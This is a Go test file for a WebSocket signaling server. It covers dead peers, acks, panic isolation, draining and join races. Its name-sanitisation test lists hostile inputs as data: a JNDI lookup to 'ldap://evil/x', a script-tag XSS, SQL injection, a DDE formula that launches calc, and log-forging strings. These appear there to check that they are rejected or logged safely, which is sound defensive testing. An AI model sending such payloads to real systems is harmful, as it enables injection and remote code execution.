package server

import (
	"context"
	"encoding/json"
	"log/slog"
	"net/http"
	"slices"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"landline/media"
	"landline/signaling"
)

// TestDeadPeer: a client whose TCP stays open but that answers nothing is given up, and its member after it. One that
// only answers pings is not, and hears something itself.
func TestDeadPeer(t *testing.T) {
	quick := times{join: time.Second, heartbeat: 200 * time.Millisecond, dead: 800 * time.Millisecond, write: time.Second,
		linger: time.Second, grace: 300 * time.Millisecond, tick: 50 * time.Millisecond}
	_, url := startWith(t, Config{}, quick, plain)
	bob, _ := enter(t, url, "r", "")
	bob.noAcks = true
	begin := time.Now()
	r, _, _ := rawIn(t, url, "r")
	if m := await[signaling.MemberState](bob); m.State != signaling.Reconnecting {
		t.Errorf("%+v", m)
	}
	if took := time.Since(begin); took < quick.dead || took > quick.dead+3*time.Second {
		t.Errorf("given up after %s", took)
	}
	if m := await[signaling.MemberLeft](bob); m.Reason != "lost" {
		t.Errorf("%+v", m)
	}
	pings := 0
	for op := byte(0); op != signaling.OpClose; {
		var payload []byte
		var err error
		if op, payload, err = r.frame(); err != nil {
			t.Fatal(err)
		}
		if op == signaling.OpPing {
			pings++
		}
		if op == signaling.OpClose && int(payload[0])<<8|int(payload[1]) != int(signaling.CloseTimeout) {
			t.Fatalf("closed with % x", payload)
		}
	}
	if pings == 0 {
		t.Error("given up without a ping")
	}
	for acks := 0; acks < 3; { // bob lives by his pongs alone
		kind, msg, err := bob.next()
		if err != nil {
			t.Fatal(err)
		}
		if kind == 2 && msg[0] == media.KindAck {
			acks++
		}
	}
}

// TestAcksAreAcknowledgedInTheEnd: a member that sends nothing but acks must hear how many have come, or what it has in
// flight fills up one day (docs/protocol.md section 8).
func TestAcksAreAcknowledgedInTheEnd(t *testing.T) {
	slow := protocolTimes
	slow.heartbeat = time.Hour // whose ack would do as well
	_, url := startWith(t, Config{}, slow, plain)
	r, _, _ := rawIn(t, url, "r")
	acked := func() uint64 {
		for {
			op, payload, err := r.frame()
			if err != nil {
				t.Fatal(err)
			}
			if a, err := media.ParseAck(payload); op == signaling.OpBinary && err == nil {
				return a.Bytes
			}
		}
	}
	ack := masked(signaling.OpBinary, media.Ack{}.Append(nil))
	for n := 0; n < 2*signaling.AckBytes; n += media.AckSize { // some may be in the ack of what came before
		r.send(ack)
	}
	for acked() < signaling.AckBytes { // or the test ends with the connection
	}
}

// faultyLogger panics once, when a member of a certain name has joined: that is within the goroutine that reads.
type faultyLogger struct {
	slog.Handler
	fired atomic.Bool
}

func (h *faultyLogger) Handle(ctx context.Context, rec slog.Record) error {
	rec.Attrs(func(a slog.Attr) bool {
		if a.Key == "name" && a.Value.String() == "fault" && h.fired.CompareAndSwap(false, true) {
			panic("injected while reading")
		}
		return true
	})
	return h.Handler.Handle(ctx, rec)
}

func (s *Server) sessionOf(member string) *Session {
	s.mu.Lock()
	defer s.mu.Unlock()
	for key, ss := range s.current {
		if key.id == member {
			return ss
		}
	}
	return nil
}

func TestPanicEndsOneSessionOnly(t *testing.T) {
	s, url := start(t, Config{Logger: slog.New(&faultyLogger{Handler: slog.NewJSONHandler(&logged, nil)})})
	bob, _ := enter(t, url, "r", `"name":"Bob"`)
	for _, where := range []string{"reading", "writing"} {
		var victim *probe
		var joined *signaling.Joined
		if where == "reading" {
			victim, joined = enter(t, url, "r", `"name":"fault"`)
		} else {
			victim, joined = enter(t, url, "r", `"name":"Ann"`)
			ss := s.sessionOf(joined.Self.ID)
			ss.shard.mu.Lock() // which the shard takes before it writes
			ss.out.raw.send = func(uintptr, []unix.Iovec) (int, syscall.Errno) {
				ss.out.raw.send = send
				panic("injected while writing")
			}
			ss.shard.mu.Unlock()
			bob.text(`{"type":"chat","text":"makes the server write"}`)
		}
		if code, fatal := victim.awaitClose(); code != int(signaling.CloseInternal) || fatal == nil || fatal.Code != "internal" {
			t.Fatalf("%s: closed with %d, %+v", where, code, fatal)
		}
		if n := s.stats.panics.Swap(0); n != 1 {
			t.Errorf("%s: %d panics counted", where, n)
		}
		for m := await[signaling.MemberState](bob); m.ID != joined.Self.ID; {
			m = await[signaling.MemberState](bob)
		}
		bob.text(`{"type":"chat","text":"fine"}`)
		for c := await[signaling.Chat](bob); c.Text != "fine"; {
			c = await[signaling.Chat](bob)
		}
		if a, err := dial(t, url).try("r", joined.Resume); err != nil || a.(*signaling.Joined).Self.ID != joined.Self.ID {
			t.Errorf("%s: the member cannot come back: %+v, %v", where, a, err)
		}
	}
}

func TestDrain(t *testing.T) {
	s, url := start(t, Config{})
	bob, _ := enter(t, url, "r", `"name":"Bob"`)
	frozen, _ := narrow(t, url).enter("r", "") // and reads no more
	late := rawUp(t, url)
	within(t, patience, "all are there", func() bool { return len(s.list()) == 3 })
	if res := get(t, httpURL(url, "/healthz"), ""); res != http.StatusOK {
		t.Fatalf("healthz %d", res)
	}
	drained := make(chan error, 1)
	begin := time.Now()
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		defer cancel()
		drained <- s.Drain(ctx)
	}()
	if m := await[signaling.Bye](bob); m.Reason != "restart" || m.RetryMs == 0 {
		t.Errorf("%+v", m)
	}
	if code, _ := bob.awaitClose(); code != int(signaling.CloseRestart) {
		t.Errorf("closed with %d", code)
	}
	if code, _, _ := late.awaitClose(); code != int(signaling.CloseRestart) {
		t.Errorf("closed with %d", code)
	}
	late.send(append(text(hello), text(`{"type":"join","room":"r"}`)...)) // what was under way comes after the end
	if res := get(t, httpURL(url, "/healthz"), ""); res != http.StatusServiceUnavailable {
		t.Errorf("healthz %d", res)
	}
	if code, reason, _ := rawUp(t, url).awaitClose(); code != int(signaling.CloseRestart) {
		t.Errorf("a newcomer was closed with %d %s", code, reason)
	}
	if err := <-drained; err != nil || time.Since(begin) > 5*time.Second {
		t.Fatalf("drained in %s: %v", time.Since(begin), err)
	}
	for _, m := range s.relay.Snapshot()[0].Members {
		if wireState(m.State) != signaling.Reconnecting {
			t.Errorf("%s is %v", m.Name, m.State)
		}
	}
	if _, seats, current := s.bookkeeping(); seats != 2 || current != 0 {
		t.Errorf("%d seats, %d current sessions", seats, current)
	}
	_ = frozen.ws.Close()
}

// TestEndWhileJoining: a session that is ended while it is being seated leaves no member behind.
func TestEndWhileJoining(t *testing.T) {
	s, url := start(t, Config{})
	for range 20 {
		r := rawUp(t, url)
		s.joins.Lock()
		r.join("r")
		within(t, patience, "hello was dealt with", func() bool { return len(s.list()) == 1 && s.list()[0].heardOf() > 0 })
		s.list()[0].end(signaling.Closef(signaling.CloseRestart, "in the middle of a join"))
		s.joins.Unlock()
		if code, _, _ := r.awaitClose(); code != int(signaling.CloseRestart) {
			t.Fatalf("closed with %d", code)
		}
		_ = r.Close()
		within(t, patience, "the session is gone", func() bool { return len(s.list()) == 0 })
	}
	if _, _, current := s.bookkeeping(); current != 0 {
		t.Errorf("%d members have a session, and there is none", current)
	}
	for _, room := range s.relay.Snapshot() {
		for _, m := range room.Members {
			if wireState(m.State) != signaling.Reconnecting {
				t.Errorf("%s is %s without a session", m.ID, wireState(m.State))
			}
		}
	}
}

// TestNastyNames: what could forge a line of a log is refused, and what is only ugly is logged as what it is.
func TestNastyNames(t *testing.T) {
	var mine lockedBuffer
	_, url := start(t, Config{Logger: slog.New(slog.NewJSONHandler(&mine, nil))})
	quote := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	for _, name := range []string{"a\rb", "a\nb", "\x1b[2J", "a\x00b", "\x7f", "a\u0085b", "\u202egnp.exe", "a\u2066b", "a\u200fb", "\ufffd",
		string(make([]rune, 65)), "0123456789012345678901234567890123456789012345678901234567890123x"} {
		for _, message := range []string{`{"type":"join","room":"r","name":` + quote(name) + `}`,
			`{"type":"join","room":"r","subscribe":[{"name":` + quote(name) + `}]}`} {
			p := dial(t, url)
			p.text(hello)
			p.text(message)
			if code, fatal := p.awaitClose(); code != int(signaling.CloseBadMessage) || fatal == nil || fatal.Code != "bad-message" {
				t.Errorf("%q: closed with %d, %+v", message, code, fatal)
			}
		}
	}
	p := dial(t, url)
	p.text(hello)
	p.text(`{"type":"join","room":"r","name":"\ud800"}`)
	if code, _ := p.awaitClose(); code != int(signaling.CloseBadMessage) {
		t.Errorf("half a surrogate pair: closed with %d", code)
	}
	nasty := []string{`"}` + "`" + `{"level":"ERROR","msg":"fake"}`, `<script>alert(1)</script>`, `%s%n%!d(MISSING)`, `${jndi:ldap://evil/x}`, `\n\r\x1b`,
		"line\u2028separator", "🏴‍☠️ é 漢字", `'; DROP TABLE rooms; --`, "=cmd|' /C calc'!A0", " "}
	for _, name := range nasty {
		_, joined := enter(t, url, "r", `"name":`+quote(name))
		if joined.Self.Name != name {
			t.Errorf("%q became %q", name, joined.Self.Name)
		}
	}
	var names []string
	within(t, patience, "all of them are logged", func() bool {
		names = nil
		for _, line := range mine.lines() {
			var rec struct{ Level, Msg, Name string }
			if err := json.Unmarshal([]byte(line), &rec); err != nil || rec.Msg == "fake" {
				t.Fatalf("log line %q: %v", line, err)
			}
			if rec.Msg == "joined" {
				names = append(names, rec.Name)
			}
		}
		return len(names) == len(nasty)
	})
	for _, name := range nasty { // in no order: each is logged by its own session
		if !slices.Contains(names, name) {
			t.Errorf("%q was not logged as that, but one of %q", name, names)
		}
	}
}

// heardOf is how many payload bytes the session has dealt with.
func (ss *Session) heardOf() uint64 {
	ss.mu.Lock()
	defer ss.mu.Unlock()
	return ss.bytes
}
